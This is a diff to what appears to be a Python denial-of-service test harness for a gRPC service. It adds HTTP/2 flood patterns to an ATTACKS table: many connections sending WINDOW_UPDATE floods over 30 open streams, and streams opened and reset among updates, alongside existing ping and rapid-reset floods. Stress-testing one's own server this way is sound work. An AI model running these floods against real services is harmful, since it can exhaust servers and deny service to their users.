@@ -211,6 +211,9 @@ _RESET = frames.CANCEL.to_bytes(4, "big")
 _HOUR = frames.prefixed(rpcs.StreamingSpotRequest(silence={"seconds": 3600}).SerializeToString())
 _EMPTY_FIELDS = frames.prefixed(b"\x12\x00" * 32_700 + b"\x12\x82\x02" + bytes(258))
 _STREAM = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, _HEADERS)
+_THIRTY_STREAMS = b"".join(
+    frames.frame(frames.HEADERS, frames.END_HEADERS, stream, _HEADERS) for stream in range(1, 60, 2)
+)
 _NO_SETTINGS = frames.frame(frames.SETTINGS, 0, 0, b"")
 _PINGS = frames.frame(frames.PING, 0, 0, bytes(8)) * 2000
 _WINDOW_UPDATES = frames.frame(frames.WINDOW, 0, 0, b"\0\0\0\1") * 2000
@@ -226,6 +229,14 @@ def _opened_and_reset(number: int) -> bytes:
         frames.frame(frames.HEADERS, frames.END_HEADERS, stream, _HEADERS)
         + frames.frame(frames.RESET, 0, stream, _RESET)
         for stream in range(number * 200 + 1, number * 200 + 201, 2)
+    )
+
+
+def _reset_among_updates(number: int) -> bytes:
+    stream = 2 * number + 1
+    opened = frames.frame(frames.HEADERS, frames.END_HEADERS, stream, _HEADERS)
+    return (
+        opened + frames.frame(frames.RESET, 0, stream, _RESET) + _WINDOW_UPDATES[: len(_WINDOW_UPDATES) // 10]
     )
 
 
@@ -322,8 +333,12 @@ ATTACKS: dict[str, tuple[str, Attack]] = {
         _frames(4, _SETTINGS + _STREAM + frames.frame(frames.RESET, 0, 1, _RESET), lambda _: _PINGS),
     ),
     "updates-beside-calls": (
-        "65 connections with an open stream that send WINDOW_UPDATE frames",
-        _frames(65, _SETTINGS + _STREAM, lambda _: _WINDOW_UPDATES),
+        "65 connections with 30 open streams that send WINDOW_UPDATE frames",
+        _frames(65, _SETTINGS + _THIRTY_STREAMS, lambda _: _WINDOW_UPDATES),
+    ),
+    "updates-among-resets": (
+        "65 connections that open and reset streams among WINDOW_UPDATE frames",
+        _frames(65, _SETTINGS, _reset_among_updates),
     ),
     "resets": (
         "4 connections that open and reset streams",
